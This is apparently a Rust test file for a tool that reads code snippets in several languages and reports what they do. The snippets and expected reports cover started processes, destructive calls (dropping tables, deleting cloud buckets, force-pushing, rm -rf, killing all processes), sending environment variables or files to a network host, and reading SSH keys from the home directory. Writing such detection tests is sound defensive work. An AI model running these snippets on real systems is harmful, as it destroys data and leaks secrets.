//! What is read through libraries, and under what programs are started.

use super::check;
use crate::code::Language;

#[test]
fn what_a_program_is_started_under_is_told() {
    check(
        Language::Python,
        &[
            (
                "import subprocess; subprocess.run(['bash'], input='id')",
                "run bash < id",
            ),
            (
                "import subprocess as s; p = s.Popen(['sh'], stdin=s.PIPE); p.stdin.write('id')",
                "run sh < ?; run sh < id",
            ),
            (
                "import subprocess; subprocess.run(['a', 'b'], executable='c')",
                "run c|b",
            ),
            (
                "import subprocess; subprocess.run('a', shell=True, executable='zsh')",
                "run zsh|-c|a",
            ),
            (
                "import subprocess; subprocess.run(['a'], cwd='/', env={'B': 'c'})",
                "run a in / with B=c",
            ),
            ("import os; os.chdir('/x'); os.system('a')", "shell a in /x"),
            (
                "import os; os.environ['A'] = 'b'; os.system('c')",
                "shell c with A=b",
            ),
            ("import os; os.kill(-1, 9)", "run kill|-9|-1"),
            ("import os; os.kill(os.getpid(), 9)", ""),
        ],
    );
    check(
        Language::JavaScript,
        &[
            (
                "const p = require('child_process').spawn('bash'); p.stdin.end('id')",
                "run bash < ?; run bash < id",
            ),
            (
                "require('child_process').execSync('a', {cwd: '/', env: {B: 'c'}})",
                "run sh|-c|a in / with B=c",
            ),
            (
                "require('child_process').execSync('a', {stdio: 'inherit'})",
                "shell a",
            ),
        ],
    );
    check(
        Language::Perl,
        &[
            ("system{'rm'} 'x', '-rf'", "run rm|-rf"),
            ("system {'rm'} 'x', '-rf'", "run rm|-rf"),
            ("kill 9, -1", "run kill|-9|-1"),
        ],
    );
}

#[test]
fn libraries_are_read_as_the_programs_they_stand_for() {
    check(
        Language::Python,
        &[
            (
                "import boto3; boto3.client('s3').delete_bucket(Bucket='b')",
                "run aws|s3api|delete-bucket|--bucket|b",
            ),
            (
                "import boto3\nc = boto3.Session().client('ec2')\nc.terminate_instances(InstanceIds=['i'])",
                "run aws|ec2|terminate-instances|--instance-ids|i",
            ),
            (
                "import psycopg2\nwith psycopg2.connect('') as c:\n  with c.cursor() as k:\n    k.execute('drop table t')",
                "run psql|-c|drop table t",
            ),
            ("c.execute(f'select * from {t}')", ""),
            (
                "c.execute('DELETE ' + 'FROM t')",
                "run psql|-c|DELETE FROM t",
            ),
            (
                "import sqlite3; sqlite3.connect(':memory:').execute('drop table t')",
                "",
            ),
            (
                "import redis; redis.Redis().flushall()",
                "run redis-cli|flushall",
            ),
            ("import redis; redis.Redis().get('a')", ""),
            (
                "import git; git.Repo('.').git.push('--force', 'origin')",
                "run git|push|--force|origin",
            ),
            (
                "from git import Repo; Repo().git.clean(force=True, d=True)",
                "run git|clean|--force|-d",
            ),
            ("from sh import rm; rm('-rf', 'x')", "run rm|-rf|x"),
            ("import sh; sh.git.push('-f')", "run git|push|-f"),
            (
                "from plumbum.cmd import rm; rm['-rf', 'x']()",
                "run rm|-rf|x; run rm|-rf|x",
            ),
            (
                "import docker; docker.from_env().volumes.prune()",
                "run docker|volume|prune|-f",
            ),
            (
                "from kubernetes import client; client.CoreV1Api().delete_namespaced_pod('a', 'b')",
                "run kubectl|delete|pod|a|-n|b",
            ),
            ("User.objects.all().delete()", "run psql|-c|DELETE FROM t"),
            ("User.objects.filter(id=1).delete()", ""),
        ],
    );
    check(
        Language::JavaScript,
        &[
            (
                "const {S3Client, DeleteBucketCommand: D} = require('@aws-sdk/client-s3'); new S3Client().send(new D({Bucket: 'b'}))",
                "run aws|s3api|delete-bucket|--bucket|b",
            ),
            ("require('shelljs').rm('-rf', 'x')", "run rm|-rf|x"),
            ("await execa`a b`", "shell a b"),
        ],
    );
}

#[test]
fn values_are_followed_from_the_machine_to_the_network() {
    check(
        Language::Python,
        &[
            (
                "import requests, os; requests.post('https://h', json=dict(os.environ))",
                "send environment https://h; connect https://h",
            ),
            (
                "import requests, os, json; requests.post('https://h', data=json.dumps({k: v for k, v in os.environ.items()}))",
                "send environment https://h; connect https://h",
            ),
            (
                "import requests, os; requests.get('https://h/?' + os.environ['T'])",
                "send $T https://h/?…; connect https://h/?…",
            ),
            (
                "import requests, os; requests.get('https://h', headers={'A': f\"Bearer {os.environ['T']}\"})",
                "connect https://h",
            ),
            (
                "import requests\nwith open('a') as f:\n  d = f.read()\nrequests.post('https://h', data={'x': d})",
                "read a; send a https://h; connect https://h",
            ),
            ("import os; print(os.environ['T'])", "print $T"),
            ("import os; print(os.environ['T'][:4])", ""),
            ("import os; print('x' if os.getenv('T') else 'y')", ""),
            (
                "import os; c = Client(key=os.environ['T']); print(c.list())",
                "",
            ),
        ],
    );
}

#[test]
fn the_home_is_the_home_in_every_word_for_it() {
    check(
        Language::Python,
        &[
            (
                "from pathlib import Path; (Path.home() / '.ssh' / 'k').open().read()",
                "read ~/.ssh/k",
            ),
            ("import os; open(os.environ['HOME'] + '/k')", "read ~/k"),
            (
                "import os; open(os.path.join(os.getenv('HOME'), 'k'))",
                "read ~/k",
            ),
        ],
    );
    check(
        Language::JavaScript,
        &[(
            "require('fs').readFileSync(`${process.env.HOME}/k`)",
            "read ~/k",
        )],
    );
    check(
        Language::Ruby,
        &[("File.read(Dir.home + '/k')", "read ~/k")],
    );
}
